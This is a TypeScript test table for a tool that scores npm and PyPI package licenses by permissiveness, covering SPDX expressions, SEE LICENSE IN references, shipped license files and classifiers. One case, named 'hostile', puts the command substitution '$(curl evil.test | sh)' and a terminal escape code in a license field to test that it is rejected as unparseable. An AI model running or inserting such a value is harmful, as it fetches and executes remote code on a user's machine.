import check from '../../src/checks/license-permissiveness.js';
import { evidence, unavailable } from '../support/evidence-builder.js';
import type { PypiLicense } from '../../src/evidence/schema.js';
import { pypiEvidence } from '../support/pypi-evidence.js';
import { checkTable } from './check-table.js';

const declared = (license: string | null) => evidence({ registry: { license } });
const withFiles = (license: string | null, licenseFiles: { path: string; spdx: string | null; others?: string[] }[]) =>
  evidence({ registry: { license }, tarball: { licenseFiles } });
const NO_LICENSE: PypiLicense = { expression: null, classifiers: [], text: null, spdx: null, source: null, files: null };
const pypiLicensed = (license: Partial<PypiLicense>) => pypiEvidence({ pypi: { license: { ...NO_LICENSE, ...license } } });

checkTable(check, [
  { name: 'MIT', evidence: declared('MIT'), score: 100, messageId: 'permissive', data: { class: 'permissive', license: 'MIT' } },
  { name: '(MIT OR Apache-2.0)', evidence: declared('(MIT OR Apache-2.0)'), score: 100, messageId: 'permissive' },
  { name: 'BSD-3-Clause', evidence: declared('BSD-3-Clause'), score: 100, messageId: 'permissive' },
  { name: 'GPL-3.0-only AND MIT: the worst', evidence: declared('GPL-3.0-only AND MIT'), score: 60, messageId: 'strong-copyleft' },
  { name: 'GPL-3.0-only OR MIT: the best', evidence: declared('GPL-3.0-only OR MIT'), score: 100, messageId: 'permissive' },
  { name: 'GPL-2.0+', evidence: declared('GPL-2.0+'), score: 60, messageId: 'strong-copyleft' },
  {
    name: 'WITH exception counts as the licence',
    evidence: declared('GPL-2.0-only WITH Classpath-exception-2.0'),
    score: 60,
    messageId: 'strong-copyleft',
  },
  { name: 'LGPL-2.1-only', evidence: declared('LGPL-2.1-only'), score: 80, messageId: 'weak-copyleft' },
  { name: 'MPL-2.0', evidence: declared('MPL-2.0'), score: 80, messageId: 'weak-copyleft' },
  { name: 'EPL-2.0', evidence: declared('EPL-2.0'), score: 80, messageId: 'weak-copyleft' },
  { name: 'AGPL-3.0-only', evidence: declared('AGPL-3.0-only'), score: 45, messageId: 'network-copyleft' },
  { name: 'SSPL-1.0', evidence: declared('SSPL-1.0'), score: 45, messageId: 'network-copyleft' },
  {
    name: 'nested: MIT AND (LGPL-2.1-only OR AGPL-3.0-only)',
    evidence: declared('MIT AND (LGPL-2.1-only OR AGPL-3.0-only)'),
    score: 80,
    messageId: 'weak-copyleft',
    data: { ids: ['MIT', 'LGPL-2.1-only', 'AGPL-3.0-only'] },
  },
  { name: 'CC-BY-NC-4.0', evidence: declared('CC-BY-NC-4.0'), score: 25, messageId: 'restricted', data: { class: 'restricted' } },
  { name: 'LicenseRef', evidence: declared('LicenseRef-Proprietary'), score: 25, messageId: 'restricted' },
  {
    name: 'Apache 2.0 is classified after correction',
    evidence: declared('Apache 2.0'),
    score: 100,
    messageId: 'permissive',
    data: { license: 'Apache-2.0', declared: 'Apache 2.0' },
  },
  { name: 'UNLICENSED', evidence: declared('UNLICENSED'), score: 25, messageId: 'unlicensed' },
  {
    name: 'SEE LICENSE IN a file whose text is not recognised',
    evidence: withFiles('SEE LICENSE IN LICENSE.txt', [{ path: 'LICENSE.txt', spdx: null }]),
    score: 25,
    messageId: 'custom',
    data: { file: 'LICENSE.txt' },
  },
  {
    name: 'SEE LICENSE IN a file recognised as MIT: the file grants MIT',
    evidence: withFiles('SEE LICENSE IN ./license.txt', [{ path: 'LICENSE.md', spdx: 'GPL-3.0-only' }, { path: 'LICENSE.txt', spdx: 'MIT' }]),
    score: 100,
    messageId: 'referenced-file',
    data: { class: 'permissive', file: 'LICENSE.txt', found: ['MIT'] },
  },
  {
    name: 'SEE LICENSE IN a file not named like a licence: whether it is shipped is not known',
    evidence: withFiles('SEE LICENSE IN EULA.md', [{ path: 'LICENSE', spdx: 'MIT' }]),
    score: 25,
    messageId: 'custom',
  },
  {
    name: 'SEE LICENSE IN LICENSE, and the package ships no licence file',
    evidence: withFiles('SEE LICENSE IN LICENSE', []),
    score: 25,
    messageId: 'file-not-shipped',
    data: { class: 'restricted', file: 'LICENSE' },
  },
  {
    name: 'SEE LICENSE IN ./LICENSE.md, and only LICENSE is shipped',
    evidence: withFiles('SEE LICENSE IN ./LICENSE.md', [{ path: 'LICENSE', spdx: 'MIT' }]),
    score: 25,
    messageId: 'file-not-shipped',
    data: { file: './LICENSE.md' },
  },
  {
    name: 'SEE LICENSE IN license, shipped as LICENSE with a text not recognised',
    evidence: withFiles('SEE LICENSE IN license', [{ path: 'LICENSE', spdx: null }]),
    score: 25,
    messageId: 'custom',
  },
  {
    name: 'SEE LICENSE IN docs/LICENSE: a file below the root is not listed, so not known either way',
    evidence: withFiles('SEE LICENSE IN docs/LICENSE', []),
    score: 25,
    messageId: 'custom',
  },
  { name: 'SEE LICENSE IN LICENSE without a tarball: whether it is shipped is not known', evidence: evidence({ registry: { license: 'SEE LICENSE IN LICENSE' }, tarball: unavailable('the tarball timed out') }), score: 25, messageId: 'custom' },
  {
    name: 'SEE LICENSE IN license.js: code is never a licence file, so not known either way',
    evidence: withFiles('SEE LICENSE IN license.js', []),
    score: 25,
    messageId: 'custom',
  },
  { name: 'no licence, no licence file', evidence: withFiles(null, []), score: 25, messageId: 'none', data: { class: 'restricted' } },
  { name: 'no licence, file text not recognised', evidence: withFiles(null, [{ path: 'LICENSE', spdx: null }]), score: 25, messageId: 'none' },
  {
    name: 'no licence declared, the shipped LICENSE is MIT',
    evidence: withFiles(null, [{ path: 'LICENSE', spdx: 'MIT' }]),
    score: 100,
    messageId: 'from-file',
    data: { class: 'permissive', file: 'LICENSE', found: ['MIT'] },
  },
  {
    name: 'no licence declared, a file holding MIT and GPL texts: the worst applies',
    evidence: withFiles(null, [{ path: 'COPYING', spdx: 'MIT', others: ['GPL-2.0-only'] }]),
    score: 60,
    messageId: 'from-file',
    data: { class: 'strong-copyleft', found: ['MIT', 'GPL-2.0-only'] },
  },
  {
    name: 'no licence declared, tarball unread: nothing to go on',
    evidence: evidence({ registry: { license: null }, tarball: unavailable('the tarball timed out') }),
    score: 25,
    messageId: 'none',
  },
  { name: 'unparseable', evidence: declared('Public Domain'), score: 25, messageId: 'unparseable' },
  { name: 'hostile', evidence: declared('$(curl evil.test | sh) \u001b[2J'), score: 25, messageId: 'unparseable' },
  // PyPI: the expression, else the mapped id, else the classifiers' class.
  { name: 'PyPI: Apache-2.0 expression', evidence: pypiLicensed({ expression: 'Apache-2.0' }), score: 100, messageId: 'permissive', data: { license: 'Apache-2.0' } },
  { name: 'PyPI: LGPL mapped from a classifier', evidence: pypiLicensed({ spdx: 'LGPL-3.0-only', source: 'classifier' }), score: 80, messageId: 'weak-copyleft' },
  {
    name: 'PyPI: BSD License classifier (no single SPDX id) is still permissive',
    evidence: pypiLicensed({ classifiers: ['License :: OSI Approved :: BSD License'] }),
    score: 100,
    messageId: 'classifier',
    data: { class: 'permissive', classifiers: ['License :: OSI Approved :: BSD License'], license: null },
  },
  {
    name: 'PyPI: several classifiers: the worst class they name',
    evidence: pypiLicensed({
      text: 'see the LICENSE file for the licences of each part of this project',
      classifiers: ['License :: OSI Approved :: MIT License', 'License :: OSI Approved :: GNU General Public License v3 (GPLv3)'],
    }),
    score: 60,
    messageId: 'classifier',
    data: { class: 'strong-copyleft' },
  },
  {
    name: 'PyPI: free text without classifiers',
    evidence: pypiLicensed({ text: 'Copyright (c) Example Corp. All rights reserved.' }),
    score: 25,
    messageId: 'unparseable',
  },
  {
    name: 'PyPI: a classifier naming no licence family falls back to the text',
    evidence: pypiLicensed({ classifiers: ['License :: OSI Approved'] }),
    score: 25,
    messageId: 'none',
  },
]);
